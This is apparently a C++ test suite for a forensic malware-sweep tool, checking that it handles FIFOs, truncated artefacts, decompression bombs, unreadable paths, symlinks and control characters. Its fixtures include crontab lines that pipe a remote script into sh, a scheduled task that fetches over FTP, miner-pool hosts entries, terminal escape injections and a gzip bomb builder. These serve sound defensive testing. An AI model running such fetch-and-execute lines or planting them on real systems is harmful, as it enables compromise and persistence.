// Input that must not hurt the tool (issue 22, items 7–12): FIFOs and devices, folders given as files, empty and
// truncated artefacts, decompression bombs under a 1 GiB address-space limit, unreadable paths, links given as
// evidence, and evidence access times. Every case ends — no crash, no hang — with a diagnostic or a usage error.
#include <fcntl.h>
#include <unistd.h>
#include <zlib.h>

#include <filesystem>
#include <map>
#include <set>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <sys/stat.h>

#include "core/escape.h"
#include "support/evtx_writer.h"
#include "support/pcap_writer.h"
#include "support/prefetch_writer.h"
#include "support/regf_writer.h"
#include "support/test_support.h"

namespace msw {
namespace {
namespace fs = std::filesystem;

#if defined(__SANITIZE_ADDRESS__)
constexpr bool kSanitized = true;  // ASan reserves terabytes of address space: no ulimit -v under it
#else
constexpr bool kSanitized = false;
#endif

// minesweep with a time limit: a hang fails the test instead of stalling the suite.
test::RunResult ms(std::vector<std::string> args, const fs::path& cwd = {}) {
  args.insert(args.begin(), {"/usr/bin/timeout", "-s", "KILL", "120", MSW_BINARY});
  return test::run(args, cwd);
}

// The same under `ulimit -v` (KiB) and as another user when asked.
test::RunResult ms_limited(const std::vector<std::string>& args, size_t kib, const fs::path& cwd = {}) {
  std::string cmd =
      "ulimit -v " + std::to_string(kib) + "; exec /usr/bin/timeout -s KILL 120 '" + std::string(MSW_BINARY) + "'";
  for (const auto& a : args) cmd += " '" + a + "'";
  return test::run({"/bin/bash", "-c", cmd}, cwd);
}

std::set<std::string> diagnostic_codes(const fs::path& case_path) {
  auto r = test::run({MSW_BINARY, "report", case_path.string(), "--format", "json"});
  std::set<std::string> out;
  const auto j = nlohmann::json::parse(r.out, nullptr, false);
  if (j.is_object())
    for (const auto& d : j["diagnostics"])
      out.insert(d["code"].get<std::string>() + " " + d["evidence"].get<std::string>());
  return out;
}

bool has_code(const std::set<std::string>& codes, std::string_view code, std::string_view path_end) {
  for (const auto& c : codes)
    if (c.starts_with(code) && c.ends_with(path_end)) return true;
  return false;
}

// A gzip stream of `members` × 16 MiB of zeros: about 16 KiB each, so 128 members claim 2 GiB from 2 MB.
std::string gzip_bomb(size_t members) {
  const std::string zeros(16u << 20, '\0');
  z_stream zs{};
  EXPECT_EQ(deflateInit2(&zs, 9, Z_DEFLATED, 16 + MAX_WBITS, 9, Z_DEFAULT_STRATEGY), Z_OK);
  std::string member(deflateBound(&zs, zeros.size()), '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(zeros.data()));
  zs.avail_in = static_cast<uInt>(zeros.size());
  zs.next_out = reinterpret_cast<Bytef*>(member.data());
  zs.avail_out = static_cast<uInt>(member.size());
  EXPECT_EQ(deflate(&zs, Z_FINISH), Z_STREAM_END);
  member.resize(zs.total_out);
  deflateEnd(&zs);
  std::string out;
  for (size_t i = 0; i < members; ++i) out += member;
  return out;
}

struct Kind {
  std::string location;  // where a scanned folder holds it
  std::string valid;     // a good one, cut to make a truncated one
};

std::vector<Kind> kinds() {
  test::CaptureWriter cap;
  cap.frame(test::ipv4_frame("10.0.0.1", "10.0.0.2", 17, test::udp_datagram(1, 2, "x")));
  test::RegKeySpec root;
  root.name = "ROOT";
  test::PrefetchSpec pf;
  pf.executable = "XMRIG.EXE";
  return {
      {"Windows/System32/winevt/Logs/Security.evtx", test::write_evtx({test::EvtxEvent{}}).bytes},
      {"capture.pcap", cap.pcap()},
      {"capture.pcapng", cap.pcapng()},
      {"Windows/System32/config/SOFTWARE", test::write_hive(root)},
      {"Windows/Prefetch/XMRIG.EXE-12345678.pf", test::write_prefetch(pf)},
      {"var/log/auth.log", "Nov 21 10:00:01 host sshd[1]: Failed password for root from 203.0.113.9 port 22 ssh2\n"},
      {"etc/crontab", "* * * * * root curl http://203.0.113.9/x|sh\n"},
  };
}

// Item 8: a FIFO, a folder and a device where a file is expected end at once with the reason, for every command.
TEST(HostileInput, FifosFoldersAndDevicesAreRefusedAtOnce) {
  test::TempDir dir;
  const fs::path fifo = dir / "Security.evtx";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  fs::create_directories(dir / "folder.pcap");
  for (const std::vector<std::string>& cmd : {std::vector<std::string>{"sample"},
                                              {"evtx", "dump"},
                                              {"evtx", "info"},
                                              {"evtx", "hunt"},
                                              {"evtx", "logons"},
                                              {"pcap"}}) {
    for (const std::string& input : {fifo.string(), std::string("/dev/zero"), (dir / "folder.pcap").string()}) {
      if (cmd[0] == "evtx" && input.ends_with("folder.pcap")) continue;  // evtx reads folders for logs (none here)
      std::vector<std::string> args = cmd;
      args.push_back(input);
      auto r = ms(args, dir.path());
      EXPECT_EQ(r.exit_code, 2) << cmd[0] << " " << input << "\n" << r.out << r.err;
      EXPECT_FALSE(r.err.empty()) << cmd[0] << " " << input;
    }
  }
  EXPECT_EQ(ms({"scan", "--quiet", "--case", (dir / "c.sqlite").string(), fifo.string()}).exit_code, 2);
  // Inside a scanned folder: a FIFO where an artefact belongs is skipped with a word.
  fs::create_directories(dir / "ev/var/log");
  ASSERT_EQ(::mkfifo((dir / "ev/var/log/auth.log").c_str(), 0600), 0);
  test::write_file(dir / "ev/etc/hosts", "127.0.0.1 localhost\n");
  auto r = ms({"scan", "--quiet", "--case", (dir / "c2.sqlite").string(), (dir / "ev").string()});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_TRUE(has_code(diagnostic_codes(dir / "c2.sqlite"), "evidence.not_regular", "var/log/auth.log"));
}

// Item 10: an empty or cut artefact of every kind is a diagnostic in `scan`, and a usage error alone.
TEST(HostileInput, EmptyAndTruncatedArtefactsAreSaid) {
  test::TempDir dir;
  for (const auto& k : kinds()) {
    test::write_file(dir / "empty" / k.location, "");
    test::write_file(dir / "cut" / k.location, k.valid.substr(0, std::min<size_t>(k.valid.size() / 3, 40)));
  }
  for (const char* variant : {"empty", "cut"}) {
    const fs::path case_path = dir / (std::string(variant) + ".sqlite");
    auto r = ms({"scan", "--quiet", "--case", case_path.string(), (dir / variant).string()});
    EXPECT_LE(r.exit_code, 1) << r.out << r.err;
    const auto codes = diagnostic_codes(case_path);
    for (const auto& k : kinds()) {
      if (k.location.starts_with("var/log") || k.location.starts_with("etc/")) continue;  // text: empty is valid
      bool said = false;
      for (const auto& c : codes) said = said || c.ends_with(k.location);
      EXPECT_TRUE(said) << variant << " " << k.location << ": no diagnostic among " << codes.size();
    }
  }
  for (const auto& [cmd, file] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"evtx", "info"}, "Windows/System32/winevt/Logs/Security.evtx"},
           {{"evtx", "dump"}, "Windows/System32/winevt/Logs/Security.evtx"},
           {{"evtx", "hunt"}, "Windows/System32/winevt/Logs/Security.evtx"},
           {{"pcap"}, "capture.pcap"},
           {{"pcap"}, "capture.pcapng"}}) {
    for (const char* variant : {"empty", "cut"}) {
      std::vector<std::string> args = cmd;
      args.push_back((dir / variant / file).string());
      auto r = ms(args);
      // Nothing readable is a usage error; a capture whose header is whole but whose first packet is cut was read,
      // and says where it stopped.
      if (std::string(variant) == "empty" || cmd[0] == "evtx") {
        EXPECT_EQ(r.exit_code, 2) << cmd[0] << " " << variant << " " << file << "\n" << r.out << r.err;
      }
      EXPECT_NE(r.err, "") << cmd[0] << " " << variant << " " << file;
    }
  }
}

// Item 7: a 2 MB auth.log.2.gz that inflates to 2 GiB, under a 1 GiB address-space limit: read a window at a time,
// cut at the named cap with a diagnostic; `sample` of the same bytes too.
TEST(HostileInput, DecompressionBombsStopAtTheirCapUnderOneGiB) {
  if (kSanitized) GTEST_SKIP() << "ulimit -v and AddressSanitizer do not mix";
  test::TempDir dir;
  const std::string bomb = gzip_bomb(128);
  test::write_file(dir / "ev/var/log/auth.log.2.gz", bomb);
  test::write_file(dir / "loose/payload.gz", bomb);
  auto r =
      ms_limited({"scan", "--quiet", "--threads", "2", "--case", (dir / "c.sqlite").string(), (dir / "ev").string()},
                 1u << 20, dir.path());
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_TRUE(has_code(diagnostic_codes(dir / "c.sqlite"), "authlog.truncated", "auth.log.2.gz"));
  auto s = ms_limited({"scan", "--quiet", "--case", (dir / "c2.sqlite").string(), (dir / "loose").string()}, 1u << 20,
                      dir.path());
  EXPECT_LE(s.exit_code, 1) << s.out << s.err;
  auto sample = ms_limited({"sample", (dir / "loose/payload.gz").string()}, 1u << 20, dir.path());
  EXPECT_LE(sample.exit_code, 1) << sample.out << sample.err;
}

// Item 9: what this user cannot read is said; a run that could read nothing exits 2 and gives no verdict.
TEST(HostileInput, UnreadablePathsAreDiagnosticsAndNothingReadIsNoVerdict) {
  test::TempDir dir;
  test::write_file(dir / "ev/ok/etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(dir / "ev/locked/etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(dir / "ev/secret.txt", "x");
  fs::permissions(dir / "ev/locked", fs::perms::none);
  fs::permissions(dir / "ev/secret.txt", fs::perms::none);
  fs::create_directories(dir / "out");
  fs::permissions(dir.path(), fs::perms::all);
  fs::permissions(dir / "out", fs::perms::all);
  // As root every path is readable: run as nobody, as a responder without rights would.
  std::vector<std::string> as_user;
  if (::geteuid() == 0) as_user = {"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"};
  auto scan = [&](const std::string& name, const fs::path& input) {
    std::vector<std::string> argv = as_user;
    argv.insert(argv.end(), {"/usr/bin/timeout", "-s", "KILL", "120", MSW_BINARY, "scan", "--quiet", "--case",
                             (dir / "out" / name).string(), input.string()});
    return test::run(argv, dir / "out");
  };
  auto locked = scan("locked.sqlite", dir / "ev/locked");
  EXPECT_EQ(locked.exit_code, 2) << locked.out << locked.err;
  EXPECT_NE(locked.out.find("no input could be read"), std::string::npos) << locked.out;
  auto secret = scan("secret.sqlite", dir / "ev/secret.txt");
  EXPECT_EQ(secret.exit_code, 2) << secret.out << secret.err;
  auto mixed = scan("mixed.sqlite", dir / "ev");
  EXPECT_EQ(mixed.exit_code, 0) << mixed.out << mixed.err;
  EXPECT_NE(mixed.out.find("Unreadable:  2 files or folders"), std::string::npos) << mixed.out;
  const auto codes = diagnostic_codes(dir / "out/mixed.sqlite");
  EXPECT_TRUE(has_code(codes, "evidence.unreadable", "ev/locked")) << codes.size();
  EXPECT_TRUE(has_code(codes, "file.open", "secret.txt")) << codes.size();
  fs::permissions(dir / "ev/locked", fs::perms::owner_all);
}

// Item 11: a link given as evidence is refused with its target named.
TEST(HostileInput, ALinkGivenAsEvidenceIsRefused) {
  test::TempDir dir;
  fs::create_symlink("/etc", dir / "link");
  auto r = ms({"scan", "--quiet", "--case", (dir / "c.sqlite").string(), (dir / "link").string()});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("is a symbolic link to /etc"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(dir / "c.sqlite"));
}

// Item 12: listing and reading evidence keeps the access times of its folders and files.
TEST(HostileInput, ScanKeepsEvidenceAccessTimes) {
  test::TempDir dir;
  test::write_file(dir / "ev/etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(dir / "ev/etc/hostname", "web01\n");
  fs::create_directories(dir / "ev/var/empty");
  const std::vector<fs::path> paths = {dir / "ev",           dir / "ev/etc",       dir / "ev/var",
                                       dir / "ev/var/empty", dir / "ev/etc/hosts", dir / "ev/etc/hostname"};
  const timespec old[2] = {{1577836800, 0}, {UTIME_OMIT, 0}};  // 2020-01-01
  auto atime = [](const fs::path& p) {
    struct stat st {};
    ::stat(p.c_str(), &st);
    return st.st_atim.tv_sec;
  };
  for (const auto& p : paths) ASSERT_EQ(::utimensat(AT_FDCWD, p.c_str(), old, 0), 0);
  // Does this mount update access times at all? (noatime mounts would make the test meaningless.)
  test::write_file(dir / "probe/x", "x");
  ASSERT_EQ(::utimensat(AT_FDCWD, (dir / "probe").c_str(), old, 0), 0);
  for (auto it = fs::directory_iterator(dir / "probe"); it != fs::directory_iterator(); ++it) {
  }
  if (atime(dir / "probe") == 1577836800) GTEST_SKIP() << "this file system does not update access times";
  auto r = ms({"scan", "--quiet", "--case", (dir / "c.sqlite").string(), (dir / "ev").string()});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("web01"), std::string::npos);
  for (const auto& p : paths) EXPECT_EQ(atime(p), 1577836800) << p;
  // The event-log commands list a folder the same way.
  test::EvtxEvent logon;
  logon.event_id = 4624;
  logon.data = {{"TargetUserName", "admin"}, {"LogonType", "3"}, {"IpAddress", "10.0.0.5"}};
  test::write_file(dir / "logs/sub/Security.evtx", test::write_evtx({logon}).bytes);
  const std::vector<fs::path> logs = {dir / "logs", dir / "logs/sub", dir / "logs/sub/Security.evtx"};
  for (const auto& p : logs) ASSERT_EQ(::utimensat(AT_FDCWD, p.c_str(), old, 0), 0);
  for (const char* sub : {"hunt", "logons", "dump"}) {
    auto e = ms({"evtx", sub, "--quiet", (dir / "logs").string()});
    EXPECT_LE(e.exit_code, 1) << sub << e.err;
    for (const auto& p : logs) EXPECT_EQ(atime(p), 1577836800) << sub << " " << p;
  }
}

// Item 13: a case on read-only media is reported (SQLite cannot create its WAL index there). One writer per case:
// tests/casedb/case_db_test.cpp (CaseDb.ASecondWriterIsToldAtOnce).
TEST(HostileInput, ACaseOnReadOnlyMediaIsReported) {
  test::TempDir dir;
  test::write_file(dir / "ev/etc/hosts", "127.0.0.1 localhost\n1.2.3.4 pool.minexmr.com\n");
  fs::create_directories(dir / "ro");
  ASSERT_LE(ms({"scan", "--quiet", "--case", (dir / "ro/case.sqlite").string(), (dir / "ev").string()}).exit_code, 1);
  // The case alone, as it is copied onto a USB stick or a read-only share (a finished case has its WAL folded in).
  fs::remove(dir / "ro/case.sqlite-shm");
  fs::remove(dir / "ro/case.sqlite-wal");
  fs::permissions(dir.path(), fs::perms::all);
  fs::permissions(dir / "ro/case.sqlite", fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
  fs::permissions(dir / "ro", fs::perms::owner_read | fs::perms::owner_exec | fs::perms::group_read |
                                  fs::perms::group_exec | fs::perms::others_read | fs::perms::others_exec);
  std::vector<std::string> argv;
  if (::geteuid() == 0) argv = {"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"};
  argv.insert(argv.end(), {MSW_BINARY, "report", (dir / "ro/case.sqlite").string(), "--format", "json"});
  auto r = test::run(argv, "/");
  fs::permissions(dir / "ro", fs::perms::owner_all);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("minexmr"), std::string::npos);
  EXPECT_FALSE(fs::exists(dir / "ro/case.sqlite-shm"));
}

// Item 14: ESC, BEL, a line break, a backslash and a right-to-left override in a file name, a task name and a hosts
// line reach no output raw: the terminal summary, Markdown, HTML, CSV, JSON, the plan, both scripts and the sh
// script's own output. JSON keeps the exact value (escaped); the sh script's quarantine manifest has the right hash.
TEST(HostileInput, ControlAndInvisibleCharactersNeverLeaveRaw) {
  test::TempDir dir;
  const std::string nasty = "\x1b[2J\x07\\\n\xE2\x80\xAE";
  test::write_file(dir / "ev/var/spool/cron/crontabs" / ("root" + nasty),
                   "* * * * * curl -fsSL http://203.0.113.9/p.sh|sh #" + nasty.substr(0, 6) + "\n");
  test::write_file(dir / "ev/C/Windows/System32/Tasks" / ("Mysa" + nasty + "gpj.exe"),
                   "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Task version=\"1.2\" "
                   "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions Context=\"Author\"><Exec>"
                   "<Command>cmd</Command><Arguments>/c echo open ftp.ftp1202.site&gt;s&amp;ftp -s:s</Arguments></Exec>"
                   "</Actions></Task>");
  test::write_file(dir / "ev/etc/hosts",
                   "127.0.0.1 localhost\n1.2.3.4 pool.minexmr.com # \x1b]0;pwn\x07\xE2\x80\xAE\n"
                   "1.2.3.4 www.360.cn\n");
  const fs::path case_path = dir / "c.sqlite";
  auto scan = ms({"scan", "--quiet", "--case", case_path.string(), (dir / "ev").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.out << scan.err;
  std::map<std::string, std::string> outputs = {{"scan", scan.out}};
  for (const char* format : {"md", "html", "csv", "json"})
    outputs[std::string("report ") + format] = ms({"report", case_path.string(), "--format", format}).out;
  outputs["plan"] = ms({"respond", case_path.string()}).out;
  outputs["sh"] = ms({"respond", case_path.string(), "--script", "sh"}).out;
  outputs["ps1"] = ms({"respond", case_path.string(), "--script", "ps1"}).out;
  test::write_file(dir / "r.sh", outputs["sh"]);
  outputs["sh dry run"] = test::run({"/bin/bash", (dir / "r.sh").string()}, dir.path()).out;
  auto raw = [](std::string_view s) -> std::string {
    for (size_t i = 0; i < s.size(); ++i) {
      const auto c = static_cast<unsigned char>(s[i]);
      size_t len = 0;
      if ((c < 0x20 && c != '\n' && c != '\t' && c != '\r') || c == 0x7F || invisible_at(s, i, len))
        return std::string(s.substr(i > 60 ? i - 60 : 0, 80));
    }
    return {};
  };
  for (const auto& [name, text] : outputs) {
    EXPECT_FALSE(text.empty()) << name;
    EXPECT_EQ(raw(text), "") << name << " shows a raw control or invisible character";
  }
  // The value itself survives where machines read it.
  const auto report = nlohmann::json::parse(outputs["report json"]);
  bool exact = false;
  for (const auto& f : report["findings"])
    for (const auto& e : f["evidence"])
      exact = exact || e["path"].get<std::string>().find("Mysa" + nasty) != std::string::npos;
  EXPECT_TRUE(exact);
  EXPECT_NE(outputs["report md"].find("\\\\x1b"), std::string::npos);
  EXPECT_NE(outputs["report html"].find("\\u{202e}"), std::string::npos);
}

}  // namespace
}  // namespace msw
